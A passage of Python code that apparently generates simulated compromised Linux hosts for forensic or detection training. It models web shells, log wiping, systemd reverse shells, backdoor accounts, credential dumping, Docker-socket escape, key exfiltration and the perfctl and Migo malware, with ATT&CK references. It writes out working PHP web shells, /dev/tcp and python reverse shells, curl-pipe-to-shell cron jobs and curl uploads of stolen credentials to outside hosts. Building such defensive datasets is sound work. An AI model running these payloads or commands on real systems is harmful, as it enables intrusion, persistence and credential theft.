                        "<?php if(isset($_REQUEST['c'])){echo '<pre>';system($_REQUEST['c']);echo '</pre>';} ?>\n",
                        "<?php $k='{}';$d=base64_decode($_POST[$k]);@eval(gzinflate($d)); ?>\n".format(rng.choice(
                            ["k", "q", "data"]))])
    ua = rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
                     "python-requests/2.28.1", "Mozilla/5.0 (compatible; Baiduspider/2.0)"])
    upload = rng.choice(["/wp-admin/admin-ajax.php?action=upload_file", "/upload.php", "/api/upload",
                         "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"])
    for i, p in enumerate(["/", "/wp-login.php", upload.split("?")[0]]):
        h.web_hit(t0 - 300 + i * 20, ip, "GET", p, 200 if i < 2 else 405, rng.randrange(200, 9000), ua)
    h.web_hit(t0, ip, "POST", upload, 200, rng.randrange(40, 300), ua)
    url = folder[len(docroot):] + "/" + name
    h.write(f"{folder}/{name}", shell, 0o644, owner=user, mtime=t0 + 1)
    t = t0 + 30
    for _ in range(rng.randrange(8, 40)):
        t += rng.uniform(5, 400)
        h.web_hit(t, ip, "POST", url, 200, rng.randrange(20, 8000), ua)
    if rng.random() < 0.5:
        copy = f"{docroot}/wp-includes/{rng.choice(['class-wp-cache.php', 'ms-load.php'])}" \
            if h.path(f"{docroot}/wp-content").exists() else f"{docroot}/.{name}"
        h.write(copy, shell, 0o644, owner=user, mtime=h.created + 2 * DAY)  # second shell, time-stomped
        h.web_hit(t + 60, ip, "POST", copy[len(docroot):], 200, rng.randrange(20, 900), ua)
    h.write(f"/tmp/.{rng.getrandbits(24):06x}", _elf(h, "bot", BOT_C, STRINGS='/bin/sh", "-c", "0.0.0.0'), 0o755,
            owner=user, mtime=t + 10)
    h.notes.append(f"web shell {url} from {ip} at {time.ctime(t0)}")


@pattern(("web", "db", "bastion", "ci"), CRON_DISTROS)
def log_wipe(h: Host, facts: dict) -> None:
    """An operator covering tracks after logging in: the lines with its address deleted from the auth
    log with sed (the session's other lines stay), its wtmp record cut out with utmpdump, btmp emptied,
    root's history cleared and linked to /dev/null; journald, which it forgot, still has them.
    MITRE ATT&CK T1070.002 "Indicator Removal: Clear Linux or Mac System Logs" and T1070.003 "Clear
    Command History", https://attack.mitre.org/techniques/T1070/002/ (procedure examples: TeamTNT, Rocke);
    Unit 42, "Malware Used by Rocke Group Evolves to Evade Detection by Cloud Security Products", 2019,
    https://unit42.paloaltonetworks.com/malware-used-by-rocke-group-evolves-to-evade-detection-by-cloud-security-products/"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(0.5, 4)
    user = rng.choice(facts.get("admins") or [h.d.default_user])
    end = h.ssh_login(user, ip, t0, 25, commands=[])
    h.sudo(user, t0 + 15, "-i", tty="pts/0")
    wipe = end - 60
    log = h.d.auth_log
    cmds = [f"sed -i '/{ip}/d' {log}", f"utmpdump /var/log/wtmp | grep -v {ip} > /tmp/w", "utmpdump -r < /tmp/w > "
            "/var/log/wtmp", "rm -f /tmp/w", "cat /dev/null > /var/log/btmp", "history -c",
            "ln -sf /dev/null ~/.bash_history", "exit"]
    h.log_filters.append((ip, wipe))
    h.utmp_filters.append(ip)
    h.truncated_logs["/var/log/btmp"] = wipe + 20
    h.touch(log, wipe)
    h.touch("/var/log/wtmp", wipe + 10)

    def link_history() -> None:
        p = h.path("/root/.bash_history")
        if p.exists() or p.is_symlink():
            p.unlink()
        os.symlink("/dev/null", p)
        h.mtimes["/root/.bash_history"] = wipe + 30

    h.after.append(link_history)
    h.notes.append(f"log wipe by {user} from {ip} at {time.ctime(t0)}: {' ; '.join(cmds[:2])}")


@pattern(("web", "db", "ci", "bastion"), ALL)
def systemd_reverse_shell(h: Host, facts: dict) -> None:
    """Persistence as a systemd service that reconnects a reverse shell (bash's /dev/tcp) every minute,
    named to pass for a system unit, enabled in multi-user.target.wants.
    MITRE ATT&CK T1543.002 "Create or Modify System Process: Systemd Service",
    https://attack.mitre.org/techniques/T1543/002/;
    Elastic Security Labs, "Linux Detection Engineering - A primer on persistence mechanisms", 2024,
    https://www.elastic.co/security-labs/primer-on-persistence-mechanisms"""
    rng = h.rng
    ip = public_ip(rng)
    port = rng.choice([443, 4444, 8443, 53, 1337, 9001])
    t0 = h.when(0.5, 4)
    name = rng.choice(["systemd-journald-sync", "dbus-broker-helper", "network-health", "kworker-update"])
    _stolen_key_login(h, facts, t0, ip, [f"vi /etc/systemd/system/{name}.service", "systemctl daemon-reload",
                                         f"systemctl enable --now {name}", f"systemctl status {name}", "exit"])
    shell = rng.choice([f"/bin/bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
                        f"/bin/sh -c 'while true; do sh -i >& /dev/tcp/{ip}/{port} 0>&1; sleep 60; done'",
                        f"/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));"
                        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'"])
    unit = (f"[Unit]\nDescription={name.replace('-', ' ').title()} Service\nAfter=network-online.target\n\n"
            f"[Service]\nType=simple\nExecStart={shell}\nRestart=always\nRestartSec=60\n\n[Install]\n"
            "WantedBy=multi-user.target\n")
    h.write(f"/etc/systemd/system/{name}.service", unit, mtime=t0 + 60)
    h.symlink(f"/etc/systemd/system/multi-user.target.wants/{name}.service", f"/etc/systemd/system/{name}.service",
              mtime=t0 + 90)
    t = t0 + 95
    h.log(t, "systemd", f"Started {name}.service - {name.replace('-', ' ').title()} Service.", 1, stream="syslog")
    for _ in range(rng.randrange(2, 6)):
        t += rng.uniform(3600, 6 * 3600)
        if t > h.now:
            break
        h.log(t, "systemd", f"{name}.service: Scheduled restart job, restart counter is at "
              f"{rng.randrange(1, 400)}.", 1, stream="syslog")
        h.log(t, "systemd", f"Started {name}.service - {name.replace('-', ' ').title()} Service.", 1, stream="syslog")
    h.notes.append(f"systemd unit {name}.service -> {ip}:{port} at {time.ctime(t0)}")


@pattern(("web", "db", "bastion", "ci"), ALL)
def uid0_account(h: Host, facts: dict) -> None:
    """A second UID-0 account: useradd -o -u 0 with a password, password logins allowed again in
    sshd_config, then logins as that account from outside.
    MITRE ATT&CK T1136.001 "Create Account: Local Account", https://attack.mitre.org/techniques/T1136/001/;
    MITRE ATT&CK T1098 "Account Manipulation"; CISA/FBI, "Top Routinely Exploited Vulnerabilities" follow-up
    intrusions describe such accounts (e.g. AA22-137A)."""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(1, 5)
    name = rng.choice(["sysadm", "mysql-adm", "toor", "sshd-sys", "admin1", "systemd-core"])
    _stolen_key_login(h, facts, t0, ip, [
        f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {name}", f"echo '{name}:{rng.getrandbits(40):x}' | chpasswd",
        "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' " + _sshd_target(h),
        f"systemctl restart {h.d.ssh_unit}", "exit"])
    ua = h.pid(t0 + 30)
    h.log(t0 + 30, "useradd", f"new user: name={name}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1", ua)
    h.log(t0 + 40, "chpasswd", f"pam_unix(chpasswd:chauthtok): password changed for {name}", h.pid(t0 + 40))
    h.account(name, 0, "/root", "/bin/bash", gid=0, hashed=h.crypt_hash(), make_home=False)
    for p in ("/etc/passwd", "/etc/shadow"):
        h.touch(p, t0 + 40)
    _enable_passwords(h, t0 + 50)
    for _ in range(rng.randrange(1, 4)):
        t = rng.uniform(t0 + 3600, h.now - 600)
        h.ssh_login(name, public_ip(rng) if rng.random() < 0.4 else ip, t, rng.uniform(3, 30), method="password",
                    commands=["id", "w", "ps aux", "exit"], history=False)
    h.notes.append(f"uid-0 account {name} from {ip} at {time.ctime(t0)}")


@pattern(("web", "db", "bastion", "ci"), ALL)
def sudoers_backdoor(h: Host, facts: dict) -> None:
    """A backdoor account that passes for a system one: a new user given passwordless sudo in a
    sudoers.d file named like cloud-init's, password logins switched back on, then used from outside.
    MITRE ATT&CK T1548.003 "Abuse Elevation Control Mechanism: Sudo and Sudo Caching",
    https://attack.mitre.org/techniques/T1548/003/, and T1136.001 "Create Account: Local Account"
    (procedure examples include Outlaw/Rocke-style miners' account creation); the benign look-alike is
    cloud-init's own /etc/sudoers.d/90-cloud-init-users."""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(1, 5)
    name = rng.choice(["sys-maint", "cloud-user", "ansible", "svc-backup", "mon"])
    uid = 1050 + rng.randrange(0, 30)
    fname = rng.choice(["91-cloud-init-users", "sysadmin", "99-ansible", "zz-users"])  # names sudo reads
    cmds = [f"useradd -m -s /bin/bash {name}", f"echo '{name}:{rng.getrandbits(40):x}' | chpasswd",
            f"echo '{name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/{fname}", f"chmod 440 /etc/sudoers.d/{fname}",
            f"touch -r /etc/sudoers.d/90-cloud-init-users /etc/sudoers.d/{fname}",
            "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' " + _sshd_target(h),
            f"systemctl reload {h.d.ssh_unit}", "exit"]
    quiet = rng.random() < 0.4
    _stolen_key_login(h, facts, t0, ip, (["unset HISTFILE"] if quiet else []) + cmds, history=not quiet)
    pid = h.pid(t0 + 30)
    h.log(t0 + 30, "useradd", f"new group: name={name}, GID={uid}", pid)
    h.log(t0 + 30, "useradd", f"new user: name={name}, UID={uid}, GID={uid}, home=/home/{name}, shell=/bin/bash, "
          "from=/dev/pts/1", pid)
    h.log(t0 + 40, "chpasswd", f"pam_unix(chpasswd:chauthtok): password changed for {name}", h.pid(t0 + 40))
    h.account(name, uid, gecos="", hashed=h.crypt_hash())
    for p in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"):
        h.touch(p, t0 + 35)
    stomp = os.stat(h.path("/etc/sudoers.d/90-cloud-init-users")).st_mtime
    h.write(f"/etc/sudoers.d/{fname}", f"{name} ALL=(ALL) NOPASSWD:ALL\n", 0o440,
            mtime=h.mtimes.get("/etc/sudoers.d/90-cloud-init-users", stomp))
    h.touch("/etc/sudoers.d", t0 + 50)  # the new entry moved the folder's time; touch -r moved only the file's
    _enable_passwords(h, t0 + 60)
    for _ in range(rng.randrange(1, 4)):
        t = rng.uniform(t0 + 3600, h.now - 600)
        h.ssh_login(name, rng.choice([ip, public_ip(rng)]), t, rng.uniform(3, 30), method="password",
                    commands=["sudo -i"], history=False)
    h.notes.append(f"sudoers backdoor {name} in /etc/sudoers.d/{fname} from {ip} at {time.ctime(t0)}"
                   f"{' (no history)' if quiet else ''}")


@pattern(("web", "db", "bastion", "ci"), ALL)
def credential_dump(h: Host, facts: dict) -> None:
    """Credential dumping after root access: /etc/shadow copied out to /dev/shm, MimiPenguin (passwords from
    process memory) and LaZagne fetched from GitHub and run, results left in a hidden file.
    MITRE ATT&CK T1003.008 "OS Credential Dumping: /etc/passwd and /etc/shadow" and T1003.007 "Proc
    Filesystem" (MimiPenguin), https://attack.mitre.org/techniques/T1003/008/;
    huntergregal/mimipenguin and AlessandroZ/LaZagne on GitHub (the tools as the reports name them)."""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(0.5, 4)
    shm = rng.choice(["/dev/shm", "/tmp", "/var/tmp"])
    cmds = ["id", "cat /etc/shadow", f"cp /etc/shadow {shm}/.s", "cat /etc/passwd",
            f"curl -sL https://raw.githubusercontent.com/huntergregal/mimipenguin/master/mimipenguin.sh -o "
            f"{shm}/mp.sh", f"bash {shm}/mp.sh > {shm}/.out 2>&1",
            f"wget -q https://github.com/AlessandroZ/LaZagne/releases/download/v2.4.5/LaZagne.Linux -O {shm}/lz"
            if rng.random() < 0.5 else "python3 -m pip install --user lazagne 2>/dev/null", f"chmod +x {shm}/lz",
            f"{shm}/lz all -oN -output {shm}", f"cat {shm}/.out", "exit"]
    quiet = rng.random() < 0.35  # `export HISTFILE=/dev/null` first: no history at all
    user = _stolen_key_login(h, facts, t0, ip, cmds, sudo_i=True, history=not quiet)
    shadow = h.path("/etc/shadow")
    h.after.append(lambda: (h.path(f"{shm}/.s").write_bytes(shadow.read_bytes()), os.chmod(h.path(f"{shm}/.s"), 0o644),
                            os.utime(h.path(f"{shm}/.s"), (t0 + 60, t0 + 60))))
    h.write(f"{shm}/mp.sh", "#!/bin/bash\n\n# Author: Hunter Gregal\n# Github: /huntergregal Twitter: "
            "/huntergregal Site: huntergregal.com\n# Dumps cleartext credentials from memory\n\n#root check\n"
            "if [[ \"$EUID\" -ne 0 ]]; then\n    echo \"Root required - You are dumping memory...\"\n    echo "
            "\"Even mimikatz requires administrator\"\n    exit 1\nfi\n\n#Store results to cleanup later\n"
            "export RESULTS=\"\"\n\n# check if a command exists in $PATH\ncommand_exists () {\n  command -v \"${1}\""
            " >/dev/null 2>&1\n}\n\n# get_shadow_hashes\nfunction get_shadow_hashes {\n\tsearch_shadow=\""
            "$(cat /etc/shadow)\"\n}\n# gnome-keyring-daemon, vsftpd, sshd (Active SSH connections), apache2\n",
            0o644, mtime=t0 + 120)
    h.write(f"{shm}/.out", f"MimiPenguin Results:\n[SYSTEM - SSHD]\t\t\t{user}:{rng.getrandbits(40):x}\n", 0o644,
            mtime=t0 + 200)
    h.write(f"{shm}/lz", _elf(h, "bot", BOT_C, STRINGS='laZagne", "The LaZagne Project", "mimipy", '
                              '"/etc/shadow", "shadow.py'), 0o755, mtime=t0 + 260)
    h.notes.append(f"credential dump in {shm} via {user} from {ip} at {time.ctime(t0)}"
                   f"{' (no history)' if quiet else ''}")


@pattern(("ci",), ALL)
def docker_sock_escape(h: Host, facts: dict) -> None:
    """Escape through the Docker socket a CI job container can reach: a poisoned pipeline job runs a
    privileged container with the host's / mounted and writes an SSH key and a cron job onto the host.
    Trend Micro, "Exposed Docker Control API and Community Image Abused to Deliver Cryptocurrency-Mining
    Malware", 2020; Palo Alto Networks Unit 42, "Graboid: First-Ever Cryptojacking Worm Found in Images on
    Docker Hub", 2019, https://unit42.paloaltonetworks.com/graboid-first-ever-cryptojacking-worm-found-in-images-on-docker-hub/;
    MITRE ATT&CK T1611 "Escape to Host", https://attack.mitre.org/techniques/T1611/"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(0.5, 4)
    cid = f"{rng.getrandbits(256):064x}"
    cmd = (f"chroot /host sh -c 'mkdir -p /root/.ssh; echo $K >> /root/.ssh/authorized_keys; echo \"* * * * * root "
           f"curl -fsSL http://{ip}:8080/s | sh\" > /etc/cron.d/{rng.choice(['sysstat2', 'apt-check', 'php-sess'])}'")
    h.write(f"/var/lib/docker/containers/{cid}/config.v2.json", json.dumps({
        "ID": cid, "Created": time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z", time.gmtime(t0)), "Path": "sh",
        "Args": ["-c", cmd], "Config": {"Image": "alpine:latest", "Cmd": ["sh", "-c", cmd], "User": ""},
        "Name": "/runner-" + f"{rng.getrandbits(32):08x}" + "-project-" + str(rng.randrange(10, 999)) + "-concurrent-0",
        "State": {"Running": False, "ExitCode": 0}}), 0o600, mtime=t0 + 5)
    h.write(f"/var/lib/docker/containers/{cid}/hostconfig.json", json.dumps({
        "Binds": ["/:/host"], "Privileged": True, "PidMode": "host", "NetworkMode": "host"}), 0o600, mtime=t0)
    pub, _ = h.keygen("escape", "ed25519", comment=rng.choice(["", "root@kali", "x"]) or None)
    key = h.path("/root/.ssh/authorized_keys")
    h.path("/root/.ssh").mkdir(parents=True, exist_ok=True)
    existing = key.read_text() if key.exists() else ""
    h.write("/root/.ssh/authorized_keys", existing + pub + "\n", 0o600, mtime=t0 + 3)
    cron_name = cmd.split("/etc/cron.d/")[1].rstrip("'")
    job = f"curl -fsSL http://{ip}:8080/s | sh"
    h.write(f"/etc/cron.d/{cron_name}", f"* * * * * root {job}\n", mtime=t0 + 3)
    _every(h, t0 + 3, 1, "root", job)
    stamp = time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(t0))
    h.log(t0, "dockerd", f"time=\"{stamp}.{rng.randrange(10**8, 10**9)}Z\" "
          f"level=info msg=\"ignoring event\" container={cid} module=libcontainerd namespace=moby "
          "topic=/tasks/delete type=\"*events.TaskDelete\"", h.pid(t0), stream="syslog")
    h.notes.append(f"docker.sock escape container {cid[:12]} -> {ip} at {time.ctime(t0)}")


@pattern(("web", "db", "bastion", "ci"), ALL)
def exfil_curl(h: Host, facts: dict) -> None:
    """Theft of keys and cloud credentials: a user's .ssh, .aws and .docker folders (and root's, after
    sudo) packed into /dev/shm and uploaded with curl to a file-sharing service or the operator's server.
    Cado Security, "Team TNT – The First Crypto-Mining Worm to Steal AWS Credentials", 2020 (curl -F
    uploads of ~/.aws); MITRE ATT&CK T1552.004 "Unsecured Credentials: Private Keys" and T1048
    "Exfiltration Over Alternative Protocol", https://attack.mitre.org/techniques/T1552/004/"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(0.3, 4)
    user = rng.choice(facts.get("admins") or [h.d.default_user])
    home = h.accounts[user].home
    h.write(f"{home}/.aws/credentials", "[default]\naws_access_key_id = AKIA{}\naws_secret_access_key = {}\n".format(
        "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)),
        "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(40))),
        0o600, owner=user, mtime=h.created + 5 * DAY)
    arc = rng.choice(["/dev/shm/.c.tgz", "/tmp/.X11-unix/.k", "/var/tmp/.cache.tar.gz"])
    dest = rng.choice([f"curl -s -F 'f=@{arc}' http://{ip}/u.php", f"curl -s --upload-file {arc} "
                       f"https://transfer.sh/{rng.getrandbits(24):x}.tgz", f"curl -sk -T {arc} https://{ip}:8443/"])
    cmds = ["id", "ls -la ~/.ssh ~/.aws", "cat ~/.aws/credentials", "sudo cat /root/.ssh/id_* 2>/dev/null",
            f"tar czf {arc} ~/.ssh ~/.aws ~/.docker 2>/dev/null", f"sudo tar rzf {arc} /root/.ssh 2>/dev/null",
            dest, f"rm -f {arc}", "exit"]
    quiet = rng.random() < 0.35  # `unset HISTFILE` first: only the sudo lines remain
    h.ssh_login(user, ip, t0, 12, commands=(["unset HISTFILE"] if quiet else []) + cmds, history=not quiet)
    h.notes.append(f"exfil by {user} from {ip} at {time.ctime(t0)}: {dest}{' (no history)' if quiet else ''}")


@pattern(("web", "ci", "db"), CRON_DISTROS)
def perfctl(h: Host, facts: dict) -> None:
    """perfctl: a root-level miner and proxyjacking kit with a userland rootkit. Its installer, kept as
    /usr/bin/perfcc (/bin/perfcc) and /root/.config/cron/perfcc, is run by a root crontab line
    `11 * * * * /root/.config/cron/perfcc`, by /etc/cron.d|hourly|daily/perfclean and by a line added to
    ~/.profile that runs the copy when it is executable and then ~/.bashrc; /lib/libgcwrap.so is listed in
    /etc/ld.so.preload (it hides .xdiag, .perf.c, perfcc, libgcwrap.so, ld.so.preload, wizlmsh from every
    dynamically linked tool); a setuid /usr/bin/wizlmsh backdoor; the miner in /tmp/.perf.c (perfctl);
    state, Tor data and captured PAM logins in /tmp/.xdiag; SHC-built ldd/top/lsof/crontab wrappers that
    hide it, in a .local/bin put first on PATH; the dropped binaries time-stomped to their neighbours'
    times. ExaTrack's case also kept SSH access through the `news` account (its key in
    /var/spool/news/.ssh/authorized_keys, /bin/dash copied to "/usr/sbin/nologin " with a trailing space,
    that name added to /etc/shells and to news's line in /etc/passwd); done here on some Debian-family hosts.
    Entry: on Docker hosts through the Docker API (ExaTrack: an exposed Portainer agent proxying it; Trend
    Micro: an exposed Docker API), a container with the host's / mounted; on other hosts the reports'
    vectors (RocketMQ, Selenium Grid, PwnKit CVE-2021-4034 for root) leave nothing in the logs we write.
    Vague in the reports, chosen here: the exact text of the ~/.profile line and of the perfclean cron
    files, the files inside /tmp/.xdiag, where the wrappers sit (ExaTrack: /bin/.local/bin; Aqua: ~/.local/bin).
    Aqua Security (Nautilus), "perfctl: A Stealthy Malware Targeting Millions of Linux Servers", 2024,
    https://www.aquasec.com/blog/perfctl-a-stealthy-malware-targeting-millions-of-linux-servers/;
    ExaTrack, "Perfctl malware exploiting exposed Portainer agent and using new SSH persistence", 2024,
    https://blog.exatrack.com/Perfctl-using-portainer-and-new-persistences/ (file names, IOC table, news
    account); SANS ISC (Xavier Mertens), "From Perfctl to InfoStealer", 2024, https://isc.sans.edu/diary/31334
    (/tmp/.perf.c/perfctl, /tmp/.xdiag/tordata); Trend Micro, "Attackers Target Exposed Docker Remote API Servers
    With perfctl Malware", 2024,
    https://www.trendmicro.com/en_us/research/24/j/attackers-target-exposed-docker-remote-api-servers-with-perfctl-.html"""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(0.5, 4)

    def neighbour(p: str) -> float:  # time-stomping: the dropped file takes a packaged neighbour's times
        return h.mtimes.get(p) or (os.stat(h.path(p)).st_mtime if h.path(p).exists() else h.created - 200 * DAY)

    if h.kind == "ci":
        cid = f"{rng.getrandbits(256):064x}"
        cmd = f"chroot /mnt sh -c 'wget -q -U \"curl/7.74.9\" -O /tmp/httpd http://{ip}/httpd && chmod +x " \
              "/tmp/httpd && /tmp/httpd'"
        h.write(f"/var/lib/docker/containers/{cid}/config.v2.json", json.dumps({
            "ID": cid, "Created": time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z", time.gmtime(t0 - 40)), "Path": "sh",
            "Args": ["-c", cmd], "Config": {"Image": rng.choice(["ubuntu:22.04", "alpine:latest", "debian:buster"]),
                                            "Cmd": ["sh", "-c", cmd]},
            "Name": f"/{rng.choice(['kubeupd', 'KubeUpdate', 'kube-' + format(rng.getrandbits(16), 'x')])}",
            "State": {"Running": False, "ExitCode": 0}}), 0o600, mtime=t0)
        h.write(f"/var/lib/docker/containers/{cid}/hostconfig.json", json.dumps({
            "Binds": ["/:/mnt"], "Privileged": True, "PidMode": "host", "NetworkMode": "host"}), 0o600, mtime=t0 - 40)
    hidden = ".xdiag;.perf.c;.dmesg;perfctl;perfcc;libgcwrap.so;ld.so.preload;libfsnldev.so;libpprocps.so;wizlmsh"
    installer = _elf(h, "bot", BOT_C, STRINGS='/tmp/.xdiag/hroot", "/tmp/.perf.c", "/etc/cron.d/perfclean", '
                     '"/.config/cron/perfcc", "crontab -l|grep -v -e perfcc -e /tmp/.perf;echo \'11 * * * * ", '
                     '"AAZHDE", "tordata", "hs.txt", "Exploit failed. Target is most likely patched.", "SHELL=pkexec')
    h.write("/usr/bin/perfcc", installer, 0o755, mtime=neighbour("/usr/bin/ls"))
    h.write("/root/.config/cron/perfcc", installer, 0o755, mtime=t0 + 25)
    h.write("/lib/libgcwrap.so", _elf(h, "gcwrap", GCWRAP_C, shared=True, HIDDEN=hidden), 0o755,
            mtime=neighbour(f"{h.d.libdir}/libkeyutils.so.1"))
    h.write("/etc/ld.so.preload", "/lib/libgcwrap.so\n", mtime=t0 + 31)
    h.write("/usr/bin/wizlmsh", _elf(h, "bot", BOT_C, STRINGS='/bin/sh", "-p", "abc185c6a7d34354515a3fc2337a2efe'),
            0o4755, mtime=neighbour("/usr/bin/id"))
    h.write("/tmp/.perf.c/perfctl", _elf(h, "miner", MINER_C), 0o755, mtime=t0 + 40)
    h.write("/tmp/.perf.c/" + rng.choice(["gnome-session-binary", "sh", "httpd"]), installer, 0o755, mtime=t0 + 12)
    h.write("/tmp/.apid", f"{h.pid(t0)}\n", mtime=t0 + 12)
    for p, data in (("/tmp/.xdiag/hs.txt", f"{rng.getrandbits(256):056x}"[:56] + ".onion\n"),
                    ("/tmp/.xdiag/p", f"{h.pid(t0 + 12)}\n"), ("/tmp/.xdiag/tordata/lock", ""),
                    ("/tmp/.xdiag/tordata/cached-microdescs", rng.randbytes(rng.randrange(4000, 20000))),
                    ("/tmp/.xdiag/hroot/.hroot", "1\n"),
                    (f"/tmp/.xdiag/data/pam/{rng.getrandbits(32):08x}", rng.randbytes(rng.randrange(40, 200)))):
        h.write(p, data, 0o600, mtime=t0 + rng.uniform(15, 3 * 3600))
    wrappers = rng.choice(["/root/.local/bin", "/bin/.local/bin"])
    for tool in ("ldd", "top", "lsof", "crontab"):
        h.write(f"{wrappers}/{tool}", _elf(h, "bot", BOT_C, STRINGS=f'{tool}", "E: neither argv[0] nor $_ works.", '
                                           f'"perfctl", "grep -v -e perfcc -e libgcwrap'), 0o755, mtime=t0 + 50)
    profile = h.path("/root/.profile")
    old = profile.read_text() if profile.exists() else ""
    h.write("/root/.profile", old + f"export PATH={wrappers}:$PATH\nif [ -x /root/.config/cron/perfcc ]; then "
            "/root/.config/cron/perfcc > /dev/null 2>&1 & fi; . ~/.bashrc 2>/dev/null\n", owner="root", mtime=t0 + 55)
    job = "/root/.config/cron/perfcc > /dev/null 2>&1"
    root_cron = "/var/spool/cron/crontabs/root" if h.d.family == "debian" else "/var/spool/cron/root"
    old_cron = [x for x in (h.path(root_cron).read_text().splitlines() if h.path(root_cron).exists() else [])
                if x and not x.startswith("#")]
    _crontab(h, "root", old_cron + [f"11 * * * * {job}"], t0 + 60)
    h.write("/etc/cron.d/perfclean", "11 * * * * root /usr/bin/perfcc > /dev/null 2>&1\n", mtime=t0 + 61)
    h.write(f"/etc/cron.{rng.choice(['hourly', 'daily'])}/perfclean", "#!/bin/bash\n/usr/bin/perfcc > /dev/null "
            "2>&1\n", 0o755, mtime=t0 + 61)
    t = t0 + 60
    while t < h.now:  # the root crontab's run every hour at :11
        t = (t // 3600 + 1) * 3600 + 11 * 60
        if t < h.now:
            h.cron(t + rng.uniform(0.01, 1.2), "root", job)
    note = ""
    if h.d.family == "debian" and "news" in h.accounts and rng.random() < 0.5:
        pub, _ = h.keygen("perfctl-news", "ed25519", comment=rng.choice(["", "root@localhost", "x"]) or None)
        news = h.accounts["news"]
        h.write("/var/spool/news/.ssh/authorized_keys", pub + "\n", 0o600, mtime=t0 + 3 * 3600)
        dash = h.path("/usr/bin/dash")
        h.write("/usr/sbin/nologin ", dash.read_bytes() if dash.exists() else _elf(h, "bot", BOT_C, STRINGS="dash"),
                0o755, mtime=t0 + 3 * 3600 + 5)
        h.write("/etc/shells", "# /etc/shells: valid login shells\n/bin/sh\n/usr/bin/sh\n/bin/bash\n/usr/bin/bash\n"
                "/bin/rbash\n/usr/bin/rbash\n/bin/dash\n/usr/bin/dash\n/usr/sbin/nologin \n", mtime=t0 + 3 * 3600 + 6)
        news.shell = "/usr/sbin/nologin "
        h.touch("/etc/passwd", t0 + 3 * 3600 + 8)
        for _ in range(rng.randrange(1, 4)):
            t = rng.uniform(t0 + 5 * 3600, h.now - 600)
            if t > t0 + 5 * 3600:
                h.ssh_login("news", rng.choice([ip, public_ip(rng)]), t, rng.uniform(2, 20), key="perfctl-news",
                            commands=[], history=False)
        note = ", news account backdoor"
    h.notes.append(f"perfctl from {ip} at {time.ctime(t0)}, wrappers in {wrappers}{note}")


@pattern(("web", "db"), CRON_DISTROS)
def migo_redis(h: Host, facts: dict) -> None:
    """Migo: an internet-facing Redis without a password is told over its protocol to drop its safeguards
    (CONFIG SET protected-mode no, replica-read-only no, aof-rewrite-incremental-fsync no,
    rdb-save-incremental-fsync no) and to write a cron job that fetches a script from Pastebin; the script
    takes the main payload from transfer.sh to /tmp/.migo (a UPX-packed Go ELF) and runs it in the
    background. Migo fetches a modified XMRig from GitHub's CDN, keeps it running with a systemd service
    and timer, hides it with a user-mode rootkit (libprocesshider) listed in /etc/ld.so.preload, disables
    SELinux, blocks cloud providers' hosts in /etc/hosts and kills competing miners.
    Vague in what we could verify, chosen here: how the cron job was written (the usual Redis CONFIG SET
    dir/dbfilename + SAVE, which leaves a crontab that is an RDB dump; Redis here runs as root, installed
    by hand), the names of the unit, the miner's folder and the hider (the hider in /usr/local/lib), the
    cron period and which hosts /etc/hosts blocks.
    Cado Security, "Migo – a Redis Miner with Novel System Weakening Techniques", 2024,
    https://www.cadosecurity.com/migo-a-redis-miner-with-novel-system-weakening-techniques/;
    BleepingComputer, "New Migo malware disables protection features on Redis servers", 2024,
    https://www.bleepingcomputer.com/news/security/new-migo-malware-disables-protection-features-on-redis-servers/
    (its summary of Cado's findings is what the traces above were checked against)."""
    rng = h.rng
    ip = public_ip(rng)
    t0 = h.when(0.5, 4)
    installed = h.created + rng.uniform(0.05, 0.6) * (t0 - h.created)
    # the Redis the operator exposed: built from source, bound to every address, no password, run as root
    h.write("/usr/local/bin/redis-server", _elf(h, "bot", BOT_C, STRINGS='redis_version:7.0.15", "protected-mode", '
                                                '"replica-read-only", "Redis is starting'), 0o755, mtime=installed)
    h.write("/etc/redis/redis.conf", "bind 0.0.0.0\nport 6379\nprotected-mode no\ndaemonize no\nsupervised systemd\n"
            "dir /var/lib/redis\ndbfilename dump.rdb\nlogfile /var/log/redis/redis.log\nmaxmemory 512mb\n"
            "maxmemory-policy allkeys-lru\n", mtime=installed + 60)
    h.write("/etc/systemd/system/redis.service", "[Unit]\nDescription=Redis\nAfter=network.target\n\n[Service]\n"
            "ExecStart=/usr/local/bin/redis-server /etc/redis/redis.conf\nRestart=always\nType=notify\n\n[Install]\n"
            "WantedBy=multi-user.target\n", mtime=installed + 90)
    h.symlink("/etc/systemd/system/multi-user.target.wants/redis.service", "/etc/systemd/system/redis.service",
              mtime=installed + 95)
    rdb_head = b"REDIS0010\xfa\tredis-ver\x067.0.15\xfa\nredis-bits\xc0@\xfa\x05ctime\xc2" + \
        int(t0).to_bytes(4, "little") + b"\xfa\bused-mem\xc2" + rng.randbytes(4) + b"\xfe\x00\xfb\x01\x00\x00"
    h.write("/var/lib/redis/dump.rdb", rdb_head + rng.randbytes(rng.randrange(200, 4000)),
            mtime=t0 - rng.uniform(60, 3600))  # later saves go where CONFIG SET dir pointed
